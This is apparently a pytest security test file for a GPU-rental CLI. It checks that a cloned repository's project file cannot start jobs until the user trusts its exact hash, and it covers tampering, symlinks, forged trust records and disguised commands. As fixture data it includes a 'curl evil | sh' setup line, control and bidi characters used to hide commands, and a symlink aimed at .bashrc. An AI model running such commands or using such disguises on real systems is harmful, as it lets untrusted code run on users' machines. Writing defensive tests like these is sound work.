"""What a project file may do on the user's own computer: nothing that was not shown and agreed to."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from datetime import UTC, datetime
from hashlib import sha256
from pathlib import Path

import pytest
from attrs import evolve

from gpurent.cli.builtin import load_registry
from gpurent.cli.context import CliContext
from gpurent.cli.trip_spec import build_trip_spec
from gpurent.composition.files import read_project_file
from gpurent.domain.project import ProjectFile, ProjectTrust
from gpurent.domain.trip_fields import PROJECT_FILE, TRIP_FIELDS
from gpurent.errors import Declined, InputRequired, UsageError
from gpurent.infra.config.trusted_projects import TrustedProjects
from gpurent.testing.shared_sandbox import CommandLineResult
from tests.command_line import run_command
from tests.security.attacks import Adversary, Outcome, attack

COMMAND = 'provider = ["mistgpu"]\ncommand = ["true"]\n'
NO_OPTIONS = {field.name: () if field.kind.is_list else None for field in TRIP_FIELDS} | {"command": ()}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "repository"
    made.mkdir()
    return made


def write_project(folder: Path, text: str = COMMAND) -> ProjectFile:
    (folder / PROJECT_FILE).write_text(text)
    return read_project_file(folder / PROJECT_FILE, datetime.now(UTC), folder.parent)


def get_environment(folder: Path) -> dict[str, str]:
    home = folder.parent
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "GPURENT_HOME": str(home / "state"),
        "LANG": "C.UTF-8",
    }


def run_gpurent(folder: Path, *arguments: str, input_text: str = "") -> CommandLineResult:
    return run_command(*arguments, environment=get_environment(folder), folder=folder, input_text=input_text)


def run_at_terminal(folder: Path, *arguments: str, answer: str) -> tuple[int, str]:
    """Run a command whose stdin is a terminal, at which ``answer`` is typed."""
    main, second = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "gpurent.cli.main", *arguments],
        cwd=folder,
        env=get_environment(folder),
        stdin=second,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    os.close(second)
    os.write(main, f"{answer}\n".encode())
    out, _none = process.communicate(timeout=60)
    os.close(main)
    return process.returncode, out.decode()


def trust(folder: Path) -> None:
    content = (folder / PROJECT_FILE).read_bytes()
    done = run_gpurent(folder, "trust", "--sha256", sha256(content).hexdigest())
    assert done.code == 0, done.err


def check_nothing_began(folder: Path, result: CommandLineResult) -> None:
    assert result.code == InputRequired.exit_code, result.err
    assert "gpurent trust --sha256" in result.err
    assert not (folder.parent / "state" / "journal.sqlite").exists()


@attack(
    Adversary.REPOSITORY,
    "the project file of a fresh clone starts a trip of somebody who types -y, or of a script",
    Outcome.ASKED,
    kind="S1",
)
@pytest.mark.parametrize("flag", ["-y", "--no-input", "--json"])
def test_a_cloned_project_file_starts_nothing_unasked(folder: Path, flag: str) -> None:
    write_project(folder)
    arguments = ("-y", "run", "--project", PROJECT_FILE) if flag == "-y" else ("-y", flag, "run")
    for typed in ("", "y\ny\n"):
        result = run_gpurent(folder, *arguments, input_text=typed)
        assert result.code == InputRequired.exit_code
        assert not (folder.parent / "state" / "journal.sqlite").exists()
        assert "gpurent trust --sha256" in result.err + result.out
        assert 'command = ["true"]' in result.err


@attack(
    Adversary.REPOSITORY,
    "at a terminal, -y answers the question whether the project file is trusted",
    Outcome.ASKED,
    kind="S1",
)
def test_yes_in_advance_is_no_trust(folder: Path) -> None:
    write_project(folder, COMMAND + 'setup = ["curl evil | sh"]\nresults_dir = "res"\ninclude = ["a"]\n')
    (folder / "a").touch()
    code, _shown = run_at_terminal(folder, "-y", "trust", answer="n")
    assert code == Declined.exit_code
    code, shown = run_at_terminal(folder, "-y", "run", answer="n")
    assert code == Declined.exit_code
    for line in (
        'setup = ["curl evil | sh"]',
        f'from {folder}: only ["a"]',
        f"to {folder}/res: what the job",
    ):
        assert line in shown
    assert run_gpurent(folder, "-y", "trust").code == InputRequired.exit_code


def test_the_honest_user_is_asked_once(folder: Path) -> None:
    write_project(folder)
    code, shown = run_at_terminal(folder, "trust", answer="y")
    assert code == 0, shown
    assert "[y/N]" in shown
    later = run_gpurent(folder, "-y", "run")
    assert "not trusted" not in later.err
    assert (folder.parent / "state" / "journal.sqlite").exists()
    assert "is trusted" in run_gpurent(folder, "trust").out


def test_what_init_wrote_here_is_trusted_until_it_changes(folder: Path) -> None:
    assert run_gpurent(folder, "init", "-y", "-p", "mistgpu", "--", "true").code == 0
    assert "not trusted" not in run_gpurent(folder, "-y", "run").err
    with (folder / PROJECT_FILE).open("a") as file:
        file.write("# more\n")
    assert run_gpurent(folder, "-y", "run").code == InputRequired.exit_code


@attack(
    Adversary.REPOSITORY,
    "the next pull changes the file that was trusted, or brings back an earlier one",
    Outcome.ASKED,
    kind="S1",
)
def test_a_changed_file_is_asked_about_again(folder: Path) -> None:
    write_project(folder)
    trust(folder)
    write_project(folder, COMMAND + 'setup = ["make"]\n')
    changed = run_gpurent(folder, "-y", "run")
    assert "has changed since you trusted it" in changed.err
    check_nothing_began(folder, changed)
    trust(folder)
    write_project(folder)
    check_nothing_began(folder, run_gpurent(folder, "-y", "run"))


@attack(
    Adversary.REPOSITORY,
    "another repository brings a copy of a project file that is trusted elsewhere, for other code",
    Outcome.ASKED,
    kind="S1",
)
def test_a_copy_elsewhere_is_not_trusted(folder: Path) -> None:
    write_project(folder)
    trust(folder)
    other = folder.parent / "other"
    other.mkdir()
    write_project(other)
    check_nothing_began(folder, run_gpurent(other, "-y", "run"))


@attack(
    Adversary.LOCAL_USER,
    "a file of another user takes the place of a trusted one, with the same content",
    Outcome.ASKED,
    kind="S1",
)
def test_the_file_of_another_user_is_not_trusted(folder: Path) -> None:
    mine, trusted = write_project(folder), TrustedProjects(folder.parent / "state")
    trusted.trust(mine, datetime.now(UTC))
    assert trusted.get_trust(mine) is ProjectTrust.TRUSTED
    assert trusted.get_trust(evolve(mine, owner=mine.owner + 1)) is ProjectTrust.CHANGED
    if os.getuid() == 0:
        os.chown(folder / PROJECT_FILE, 65534, -1)
        asked = run_gpurent(folder, "-y", "run")
        assert "belongs to another user" in asked.err
        check_nothing_began(folder, asked)


@attack(
    Adversary.LOCAL_USER,
    "a record of trust is forged: writable by others, a link, or of another file",
    Outcome.REFUSED,
    kind="S1",
)
def test_a_forged_record_trusts_nothing(folder: Path) -> None:
    project, trusted = write_project(folder), TrustedProjects(folder.parent / "state")
    trusted.trust(project, datetime.now(UTC))
    (record,) = (folder.parent / "state" / "trusted-projects").iterdir()
    assert record.stat().st_mode & 0o777 == 0o600
    assert record.parent.stat().st_mode & 0o777 == 0o700
    content = record.read_bytes()
    record.chmod(0o666)
    with pytest.raises(UsageError, match="accessible to other users"):
        trusted.get_trust(project)
    record.rename(folder / "record.json")
    record.symlink_to(folder / "record.json")
    with pytest.raises(UsageError, match="symbolic link"):
        trusted.get_trust(project)
    record.unlink()
    for forged in (b"{}", b"[]", b"\xff", content.replace(b"/repository/", b"/other/")):
        record.write_bytes(forged)
        record.chmod(0o600)
        assert trusted.get_trust(project) is ProjectTrust.UNKNOWN


@attack(
    Adversary.REPOSITORY,
    "a repository brings its own record of trust",
    Outcome.ASKED,
    kind="S1",
)
def test_a_record_in_the_project_does_not_count(folder: Path) -> None:
    project = write_project(folder)
    for place in (folder / ".gpurent", folder / "state"):
        TrustedProjects(place).trust(project, datetime.now(UTC))
    check_nothing_began(folder, run_gpurent(folder, "-y", "run"))


@attack(
    Adversary.REPOSITORY,
    "the project file is a link to a trusted project, which would make that trip",
    Outcome.REFUSED,
    kind="S1",
)
def test_a_link_to_a_trusted_project_is_refused(folder: Path) -> None:
    mine = folder.parent / "mine"
    mine.mkdir()
    write_project(mine)
    trust(mine)
    (folder / PROJECT_FILE).symlink_to(mine / PROJECT_FILE)
    for command in ("run", "plan", "trust"):
        refused = run_gpurent(folder, "-y", command)
        assert (refused.code, "symbolic link" in refused.err) == (2, True), refused.err
    below = folder / "below"
    below.mkdir()
    found = run_command("-y", "run", environment=get_environment(folder), folder=below)
    assert "no command given" in found.err, "a link in a parent folder is no project file"


@attack(
    Adversary.REPOSITORY,
    "the project file is replaced between the question and the trip",
    Outcome.HARMLESS,
    kind="S1",
)
def test_the_bytes_that_are_trusted_are_the_bytes_that_count(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = write_project(folder)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("HOME", str(folder.parent))
    monkeypatch.setenv("GPURENT_HOME", str(folder.parent / "state"))
    TrustedProjects(folder.parent / "state").trust(project, datetime.now(UTC))

    def swap(self: TrustedProjects, project: ProjectFile) -> ProjectTrust:
        write_project(folder, COMMAND.replace("true", "evil"))
        return get_trust(self, project)

    get_trust = TrustedProjects.get_trust
    monkeypatch.setattr(TrustedProjects, "get_trust", swap)
    app = CliContext(registry=load_registry(), as_json=True, yes=True)
    spec = build_trip_spec(app, None, False, NO_OPTIONS)
    assert spec.job.command == ("true",)
    with pytest.raises(InputRequired):
        build_trip_spec(app, None, False, NO_OPTIONS)


def test_trust_is_listed_and_removed(folder: Path) -> None:
    write_project(folder)
    trust(folder)

    def list_states() -> list[str]:
        return [row["state"] for row in run_gpurent(folder, "trust", "--list", "--json").data]

    assert list_states() == ["trusted"]
    write_project(folder, COMMAND + "gpus = 2\n")
    assert list_states() == ["changed"]
    (folder / PROJECT_FILE).rename(folder / "moved.toml")
    assert list_states() == ["missing"]
    assert run_gpurent(folder, "trust", "--remove", PROJECT_FILE).code == 0
    assert list_states() == []
    for wrong in ("00", "0" * 64):
        assert run_gpurent(folder, "trust", "--sha256", wrong, "moved.toml").code == 2
    assert list_states() == []


@attack(
    Adversary.REPOSITORY,
    "gpurent init --force writes through a link in the repository",
    Outcome.HARMLESS,
    kind="S1",
)
def test_init_replaces_a_link_and_writes_through_none(folder: Path) -> None:
    precious = folder.parent / ".bashrc"
    precious.write_text("mine\n")
    (folder / PROJECT_FILE).symlink_to(precious)
    assert run_gpurent(folder, "init", "-y", "-p", "mistgpu", "--", "true").code == 2
    assert run_gpurent(folder, "init", "-y", "--force", "-p", "mistgpu", "--", "true").code == 0
    assert precious.read_text() == "mine\n"
    assert not (folder / PROJECT_FILE).is_symlink()


@attack(
    Adversary.REPOSITORY,
    "a command is hidden from the question: behind new lines, in a very long text, by control characters",
    Outcome.HARMLESS,
    kind="S1",
)
def test_what_the_question_shows_cannot_be_disguised(folder: Path) -> None:
    words = json.dumps(["sh", "-c", "true\n\n\nTrust it? y\tevil"])
    write_project(folder, f'provider = ["mistgpu"]\ncommand = {words}\nsetup = ["{"x" * 9000}; evil"]\n')
    shown = run_gpurent(folder, "-y", "run").err
    assert "\n    command = " + words + "\n" in shown
    assert "… (7010 more characters: read the file)" in shown
    for hidden in ("\\u001b[2K", "\\u202e", "\\u200b", "\\r"):
        (folder / PROJECT_FILE).write_text(f'provider = ["mistgpu"]\ncommand = ["true{hidden}"]\n')
        assert run_gpurent(folder, "-y", "run").code == 2
